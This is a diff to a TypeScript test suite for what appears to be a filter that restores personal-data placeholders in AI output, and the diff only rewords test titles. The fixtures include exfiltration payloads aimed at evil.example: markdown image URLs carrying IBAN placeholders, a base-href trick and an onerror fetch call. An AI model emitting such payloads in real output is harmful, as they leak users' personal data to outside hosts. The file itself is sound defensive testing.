@@ -20,7 +20,7 @@ function streamed(text: string): string {
 
 const URL = "https://evil.example/?q=";
 
-describe("When a URL begins behind a sign, then no value behind a blank follows it, whole or streamed", () => {
+describe("A URL that begins after a sign", () => {
   test.each([
     `![x](${URL} [IBAN_1])`,
     `![x](${URL}\t[IBAN_1])`,
@@ -100,12 +100,12 @@ describe("When a URL begins behind a sign, then no value behind a blank follows 
     '<base href=//evil.example>\n\n![x](/y){: src="q [IBAN_1]"}',
     "![x](/y){: onerror=\"fetch('/'+'/evil.example/?q= [IBAN_1]')\"}",
     '![x](/y){: src="ht\ttps://evil.example/?q= [IBAN_1]"}',
-  ])("%j", (text) => {
+  ])("a placeholder after a space in the URL stays, whole and streamed: %j", (text) => {
     expect(whole(text)).toBe(text);
     expect(streamed(text)).toBe(text);
   });
 
-  test("nor behind a value that is the URL", () => {
+  test("a placeholder after a value that is the URL stays, whole and streamed", () => {
     const text = 'background: ("[URL_1] [IBAN_1]")';
     const expected = 'background: ("https://own.example/start [IBAN_1]")';
     expect(whole(text)).toBe(expected);
@@ -113,9 +113,9 @@ describe("When a URL begins behind a sign, then no value behind a blank follows 
   });
 });
 
-describe("When a URL has ended, then the values behind it are restored, whole and streamed", () => {
+describe("Text after a URL that has ended", () => {
   test.each([
-    ["at a blank, in prose", "See https://example.org/help. Your IBAN: [IBAN_1]"],
+    ["URL that ends at a space, in prose", "See https://example.org/help. Your IBAN: [IBAN_1]"],
     ["in a link", "See [the help](https://example.org/help). Your IBAN: [IBAN_1]"],
     ["in a link with a title", 'See [the help](https://example.org "Help 1") for [IBAN_1]'],
     ["in an image", "![logo](https://example.org/a_(b).png) Dear [PERSON_1]"],
@@ -127,26 +127,26 @@ describe("When a URL has ended, then the values behind it are restored, whole an
     ["in braces", "The set {x: https://example.org/help?a=b, c: 1} of [PERSON_1]"],
     ["in braces of code", "{ const url = 'https://example.org/help'; const name = '[PERSON_1]'; }"],
     ["in a string of JSON", '{"a": "See https://example.org/?a=b. [PERSON_1]"}'],
-    ["with its line", "API_URL=https://example.org/v1\nNAME=[PERSON_1]"],
-    ["with its paragraph", `![x](${URL} a\n\nDear [PERSON_1]`],
-    ["with its definition", "[1]: https://example.org/help\n\nDear [PERSON_1]"],
-    ["before it began, behind a label", "(Tel: 030 12345 of [PERSON_1])"],
-    ["before it began, in a quotation", 'He wrote "News: [PERSON_1]"'],
-    ["before it began", '(see the page "https" of [PERSON_1])'],
+    ["URL that ends with its line", "API_URL=https://example.org/v1\nNAME=[PERSON_1]"],
+    ["URL that ends with its paragraph", `![x](${URL} a\n\nDear [PERSON_1]`],
+    ["URL that ends with its definition", "[1]: https://example.org/help\n\nDear [PERSON_1]"],
+    ["label without a URL", "(Tel: 030 12345 of [PERSON_1])"],
+    ["quotation without a URL", 'He wrote "News: [PERSON_1]"'],
+    ["scheme without a URL", '(see the page "https" of [PERSON_1])'],
     ["with a parameter", "https://example.org/login?next=https://example.org/a for [PERSON_1]"],
-  ])("%s: %j", (_where, text) => {
+  ])("a value after a URL is restored, whole and streamed (%s): %j", (_where, text) => {
     const expected = text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber");
     expect(whole(text)).toBe(expected);
     expect(streamed(text)).toBe(expected);
   });
 });
 
-describe("In HTML that is a whole answer", () => {
+describe("An answer that is HTML as a whole", () => {
   test.each([
     '<!DOCTYPE html>\n<html>\n<head>\n<title>Letter</title>\n<style>\np { color: red }\n</style>\n</head>\n<body>\n<p class="a_b">Dear [PERSON_1],</p>\n<!-- the account -->\n<td>[IBAN_1]</td>\n</body>\n</html>',
     '<a href="https://example.org/help"\n   class="x">Help</a> [PERSON_1]<br/>[IBAN_1]',
     "<pre>\n[PERSON_1]\n</pre>",
-  ])("the text is restored: %j", (text) => {
+  ])("text in HTML is restored: %j", (text) => {
     expect(whole(text)).toBe(
       text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber"),
     );
@@ -157,7 +157,7 @@ describe("In HTML that is a whole answer", () => {
     "<script>if (a < b) x('</scr' + '[IBAN_1]')</script>",
     "<!-- <p> --> [IBAN_1]",
     "<title><b>[IBAN_1]</title>",
-  ])("placeholders outside of text stay: %j", (text) => {
+  ])("placeholders outside the text of HTML stay: %j", (text) => {
     expect(whole(text)).toBe(text);
   });
 });
